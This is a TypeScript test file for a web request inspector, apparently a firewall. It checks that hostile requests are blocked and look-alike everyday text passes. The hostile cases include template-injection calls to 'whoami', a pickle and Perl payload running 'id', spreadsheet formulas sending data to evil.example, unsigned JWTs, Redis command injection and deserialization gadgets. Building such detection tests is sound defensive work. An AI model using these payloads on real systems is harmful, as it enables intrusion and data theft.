import { describe, expect, test } from 'vitest';
import { policyOf } from '../../../../benchmarks/traffic/policies.ts';
import { type HeaderField, type InspectedRequest, inspect } from '../index.ts';
import { encodeLatin1, post, query, request } from '../testing/requests.ts';

const policy = policyOf('medium');
const decided = (one: InspectedRequest) => inspect(policy, one).decision;
const json = (value: unknown) => post('application/json', JSON.stringify(value));
const form = (value: string) => post('application/x-www-form-urlencoded', `note=${encodeLatin1(value)}`);
const get = (target: string, ...headers: HeaderField[]) =>
  request({ target, headers: [['host', 'shop.example.com'], ...headers] });
const upload = (filename: string) =>
  post(
    'multipart/form-data; boundary=b',
    `--b\r\nContent-Disposition: form-data; name="f"; filename="${filename}"\r\n\r\nx\r\n--b--\r\n`,
  );
const form2 = (name: string, value: string) =>
  post('application/x-www-form-urlencoded', `${encodeLatin1(name)}=${encodeLatin1(value)}`);
const file = (filename: string, content: string) =>
  post(
    'multipart/form-data; boundary=b',
    `--b\r\nContent-Disposition: form-data; name="f"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n${content}\r\n--b--\r\n`,
  );
const token = (header: object) =>
  `${Buffer.from(JSON.stringify(header)).toString('base64url')}.${Buffer.from('{"sub":"admin"}').toString('base64url')}.`;
const share = (host: string) => String.raw`\\${host}\share\x.png`;

const hostile: Readonly<Record<string, InspectedRequest>> = {
  'a magic method as a value': post('application/x-www-form-urlencoded', 'a=1&_method=__construct'),
  'a magic method as a name': json({ updates: { count: [{ __toString: 'x' }] } }),
  'a behaviour of Yii': json({ handle: { 'as session': { class: 'craft\\behaviors\\Field' } } }),
  'a handler of Yii': json({ 'on afterSave': { __class: 'GuzzleHttp\\Psr7\\FnStream' } }),
  'a reference of Flight': json(['$1:a:constructor:constructor']),
  'a reference of Flight to a prototype': form('$a:x:__proto__'),
  'an exception of Wazuh': json({ __unhandled_exc__: { __class__: 'exit' } }),
  'globals of Python': json({ __globals__: { os: 1 } }),
  'a PHP object in a session, its quotes escaped': upload('x|O:16:\\"Crypt_GPG_Engine\\":1:{s:1:\\"a\\";}'),
  'a method of Go': query('{{$.Exec "whoami"}}'),
  'a method of Go behind printf': query('{{ printf "%s" (call .System "id") }}'),
  'a share of a public address': json({ icon: share('203.0.113.9') }),
  'a share over WebDAV': query(share('evil.example@SSL@443')),
  'a further recipient': json({ notes: 'a@shop.example\r\nBcc: b@evil.example' }),
  'a formula that tells': form('=HYPERLINK("https://evil.example/?l="&A1,"x")'),
  'a formula that fetches': form('=WEBSERVICE("http://evil.example/?d="&CONCAT(A1,B1))'),
  'an option of PHP': get('/?--env=local'),
  'an option of Craft': get('/index.php?--templatesPath=ftp://evil.example'),
  'an unsigned token': get('/me', ['authorization', `Bearer ${token({ alg: 'none' })}`]),
  'an unsigned token in a cookie': get('/me', ['cookie', `t=${token({ typ: 'JWT', alg: 'None' })}`]),
  'a server behind Exchange': get('/ecp/a.js', ['cookie', 'X-BEResource=localhost/owa/x.js~1942062522']),
  'an interface behind Exchange': get('/autodiscover/autodiscover.json?a=x@corp.example/powershell/'),
  'a role of CouchDB': json({ name: 'x', roles: ['_admin'] }),
  'a letter encoded twice': get('/%2577ebui_wsma_http'),
  'settings of a pipeline at the root': get('/.gitlab-ci.yml'),
  'a class of a chain, of Laravel': json({ x: [{ class: 'Illuminate\\Queue\\CallQueuedClosure' }] }),
  'a class of a chain, of Guzzle': form2('x[__class]', 'GuzzleHttp\\Psr7\\FnStream'),
  'arguments of SimpleXMLElement': json({ sourceData: { data: 'http://x.example/a', dataIsURL: true } }),
  'a pickle with its breaks escaped': form("cposix\\nsystem\\n(S'id'\\ntR."),
  'a function in a name of a variable': form('{${sleep(3)}}'),
  'Perl in a picture': file('x.jpg', 'AT&TFORM(metadata "\\c${system(\'id\')};")'),
  'a playlist that joins a file': file('x.avi', '#EXTM3U\nconcat:http://x.example/h|file:///etc/hosts'),
  'a header of a scanner': get('/', ['Acunetix-Aspect', 'enabled']),
  'a loopback address in octal, told by a browser': get('/?referrer=http://0177.0.0.1/'),
  'a comment of Smarty within a word': form('a{*comment*}b'),
  'a comment of Jinja within a word': form('a{#comment#}b'),
  'an evaluation of AngularJS': form("$eval('1+1')"),
  'a statement of MongoDB': form('db.injection.insert({success:1});'),
  'a number joined on both sides': form("'^(1)^'"),
  'a statement that numbers decide on': form('IF(7423=7424) SELECT 7423 ELSE DROP FUNCTION xcjl--'),
  'a tool of Symfony at the root': get('/_profiler/latest'),
  'a script console at the root': get('/script'),
  'a repository behind a word of forges': get('/blob/.git/config'),
};

const harmless: Readonly<Record<string, InspectedRequest>> = {
  'a magic method in a sentence': form('call __construct from the parent class'),
  'a class of markup': json({ class: 'block__element', 'as expected': { class: 'b' } }),
  'amounts of money': json(['$1:00 to $2:30', 'constructor set']),
  'a reference of Flight to a field': json(['$1:items:0:id']),
  'a chart of Helm': form('{{ printf "%s-%s" .Release.Name "web" }}{{ .Files.Get "a.ini" }}'),
  'a share by name': json({ text: share('fileserver') }),
  'an address and a sentence': json({ notes: 'a@shop.example\ncc me if you can' }),
  'a formula that links': form('=HYPERLINK("https://shop.example.com/a","Shop")'),
  'a sentence behind an at sign': form('@import of goods: webservice (API)'),
  'properties of a style': get('/theme?--primary=%23ff0000&--radius=4px'),
  'a signed token': get('/me', ['authorization', `Bearer ${token({ alg: 'RS256' })}c2ln`]),
  'an unsigned request object': get(`/authorize?request=${token({ alg: 'none' })}`),
  'a cookie of Exchange': get('/owa/', ['cookie', 'X-BackEndCookie=S-1-5-21=u56Lnp2ejJqByM']),
  'an address in a search': get('/search?q=bob@corp.example/sales'),
  'roles of users': json({ roles: ['admin', 'editor'] }),
  'a percent sign encoded': get('/wiki/100%25_cotton'),
  'settings of a pipeline in a forge': get('/api/v4/projects/1/repository/files/.gitlab-ci.yml'),
  'a class of Laravel in a log': json({ job: 'Illuminate\\Queue\\CallQueuedClosure' }),
  'a playlist': file('x.m3u', '#EXTM3U\n#EXTINF:10,Song\nhttp://radio.example/a.mp3'),
  'metadata of a document': file('x.txt', '(metadata "author Anna")'),
  'a loopback address, told by a browser': get('/?referrer=http://127.0.0.1/'),
  'an order that is confirmed': json({ attr__onclick: "return confirm('Delete this order?')" }),
  'a page that tells search engines of itself': form(
    '<script type="application/ld+json">{"@type":"Article"}</script>',
  ),
  'calls shown in code spans': form("`ready(fn)` and `alert('hi')` are classics"),
  'a category of a shop': get('/products/dvr/8-channel'),
  'a page of lyrics': get('/lyrics/the-band/script'),
  'a page of a company': get('/company/info.php'),
  'the upload of an editor': get('/static/ueditor/php/controller.php?action=config'),
  'settings of Blazor': get('/appsettings.json'),
  'a download about databases': get('/files/database-design.zip'),
  'a file of a forge': get('/acme/shop/-/blob/main/docker-compose.yml'),
};

describe('names and values that some product acts on', () => {
  test.each(Object.entries(hostile))('blocks %s', (_name, one) => {
    expect(decided(one)).toBe('block');
  });
  test.each(Object.entries(harmless))('passes %s', (_name, one) => {
    expect(decided(one)).toBe('pass');
  });
});

describe('names and pointers that only an attack on objects holds', () => {
  const json = (body: unknown) => post('application/json', JSON.stringify(body));
  const pointer = (path: string) => json([{ op: 'add', path, value: 1 }]);

  test.each([
    ['a pointer to a prototype', pointer('/__proto__/role')],
    ['a pointer to a prototype, deep', pointer('/a/0/__proto__/role')],
    ['a pointer to the prototype of a constructor', pointer('/constructor/prototype/role')],
    ['a pointer to the prototype of a field’s constructor', pointer('/user/constructor/prototype/isAdmin')],
    ['an option of a template engine', json({ settings: { 'view options': { client: true } } })],
    ['an option that becomes code', json({ outputFunctionName: 'x;x' })],
    ['a type of any value, by a point', post('application/x-www-form-urlencoded', 'login=a&pass.$type=2')],
    ['a map function', json({ mapReduce: 'u', map: 'function(){emit(1,this.p)}', out: 'x' })],
    ['a line of Redis', post('application/x-www-form-urlencoded', 'key=x%0d%0aCONFIG SET dir /tmp%0d%0a')],
    ['PowerShell behind a word', post('application/x-www-form-urlencoded', 'host=localhost;saps calc.exe')],
    [
      'a question to Windows behind a word',
      post('application/x-www-form-urlencoded', 'host=server %26 quser'),
    ],
    [
      'Groovy that runs git with an alias',
      post('application/x-www-form-urlencoded', "x='git -c alias.x=!id x'.execute()"),
    ],
    ['a line of Redis behind a word', post('application/x-www-form-urlencoded', 'key=session%0d%0aFLUSHALL')],
  ])('blocks %s', (_, one) => {
    expect(inspect(policyOf('medium'), one).decision).toBe('block');
  });

  test.each([
    ['a pointer to a field', pointer('/constructor')],
    ['a pointer to a name that is alike', pointer('/constructor/prototypes/1')],
    ['a page about it', json({ path: '/docs/__proto__.html' })],
    ['options of a view', json({ view: { options: 1 }, 'view-options': 2 })],
    ['a function of a view (CouchDB)', json({ map: 'function (doc) { emit(doc._id, 1); }' })],
    ['lines of prose', post('application/x-www-form-urlencoded', 'note=Hi%0d%0aconfig set wrong')],
    ['a line of a recipe', post('application/x-www-form-urlencoded', 'note=First%0d%0aset the table for 4')],
  ])('passes %s', (_, one) => {
    expect(inspect(policyOf('medium'), one).decision).toBe('pass');
  });
});

/** Each stood in a product's field once and was taken for an attack that looks alike. */
describe('everyday texts that look like what a command, a query or a script holds', () => {
  const form = (text: string, name: string) => form2(name, text);
  const field = (text: string, name: string) => json({ [name]: text });
  const cookie = (text: string, name: string) =>
    request({
      headers: [
        ['host', 'shop.example.com'],
        ['cookie', `${name}=${encodeLatin1(text)}`],
      ],
    });
  const file = (name: string) =>
    post(
      'multipart/form-data; boundary=b',
      `--b\r\nContent-Disposition: form-data; name="f"; filename="${name}"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4\r\n--b--\r\n`,
    );
  const passing = (all: readonly (readonly [string, InspectedRequest])[]) =>
    all.filter(([, one]) => inspect(policyOf('medium'), one).decision !== 'pass').map(([told]) => told);
  const named = (
    texts: readonly string[],
    names: readonly string[],
    carriers: readonly ((text: string, name: string) => InspectedRequest)[],
  ) =>
    texts.flatMap((text) =>
      names.flatMap((name) =>
        carriers.map((carry, index) => [`${index} ${name}: ${text}`, carry(text, name)] as const),
      ),
    );

  test('titles with an ampersand or a bar', () => {
    const titles = [
      'Vol I & Vol V: collected',
      'Tour & route print',
      'R&D | query session',
      'Search & query user',
      'Gross & net start',
      'Gross & net session',
      'B.Sc & SC query',
      'Tools & sc config tool',
      'Stay & where /r you',
      '& where /r you',
      '& getmac',
      'Apps & getmac',
      '12\nnet share',
      'Rock; sls -a',
      'Maps && gc https://shop.example.com',
      'Tour; resolve-dnsname x',
    ];
    expect(passing(named(titles, ['q', 'title', 'comment', 'name'], [query, form, field]))).toEqual([]);
    expect(passing([['name', file('Tour & route print.pdf')]])).toEqual([]);
  });

  test('lines that guides show', () => {
    const lines = [
      'cd project && dir C:\\temp',
      'cd project && echo done > c:\\log.txt',
      'To install run\nmsiexec /i setup.msi /qn',
      'dotnet restore\nmsbuild /p:Configuration=Release',
      'I ran\nexpand -d x.cab',
      'redis-cli\nconfig get maxmemory',
      'flushall\nflushdb',
      "for $x in doc('a.xml') return $x",
      '@groovy.transform.CompileStatic',
      "@Grab('org.x:y:1')",
      '"SELECT 1".execute()',
      "'git log'.execute()",
      "socket.on('connect', function() { socket.emit('join', room) })",
      "setTimeout(function () { self.emit('data', 1) }, 10)",
      "$(x).click(function(){ emit('x') })",
      'if (Object.keys(this).length === 0) return',
      'tojson(this)',
    ];
    expect(passing(named(lines, ['comment', 'body', 'code', 'steps'], [form, field]))).toEqual([]);
    expect(passing(named(lines.slice(2), ['comment'], [query]))).toEqual([]);
  });

  test('scripts that search for themselves', () => {
    const searched = [
      'To install run\nmsiexec /i setup.msi /qn',
      'Object.keys(this).length === 0',
      'tojson(this)',
      "$(x).click(function(){ emit('x') })",
      "socket.on('connect', function() { socket.emit('join', room) })",
      '@groovy.transform.CompileStatic',
      "@Grab('org.x:y:1')",
      '"SELECT 1".execute()',
      "'git log'.execute()",
      'window[Object.keys(window)[0]]',
      '{{ (2024) - 1 }}',
      'ftp://ftp.example.com/pub/index.php',
      'redis-cli\nconfig get maxmemory',
      'flushall\nflushdb',
    ];
    expect(passing(named(searched, ['q', 'code', 'comment'], [query, form]))).toEqual([]);
    expect(passing(named(['{{ (2024) - 1 }}'], ['q', 'name', 'value'], [query, form, field]))).toEqual([]);
    const bundled = ['var f=(0,eval)("this")', 'x=Object.getPrototypeOf(y).constructor`a`'];
    expect(passing(named(bundled, ['code', 'content'], [field]))).toEqual([]);
  });

  test('parameters that hold words', () => {
    const names =
      'q text body subject message comment title description prompt content p wd k filter label utm_term search_query';
    const sentences = [
      '/etc/hosts file not working on mac',
      'http://localhost:3000 not working here',
      'use `rm -rf node_modules` then',
      'Learn Docker & dig sites',
      'Learn Docker; kubectl get pods',
      'Learn Docker & helm install guide',
    ];
    expect(passing(named(sentences, names.split(' '), [query]))).toEqual([]);
    expect(passing(named(sentences.slice(-2), ['lastsearch'], [cookie]))).toEqual([]);
    expect(passing(named(["Love' or hate -- "], ['title', 'name'], [query, form, field]))).toEqual([]);
    expect(passing(named(["Admin' or id-- "], ['username', 'email'], [query, form, field]))).toHaveLength(6);
  });

  test('names of fields that mean something else', () => {
    expect(
      passing([
        ['a template', json({ $eval: 'x + 1' })],
        ['a chapter', json({ path: '/docs/constructor/prototype/x' })],
        ['a label', json({ 'view options': 'grid' })],
        ['a menu', form('grid', 'view options')],
      ]),
    ).toEqual([]);
  });
});
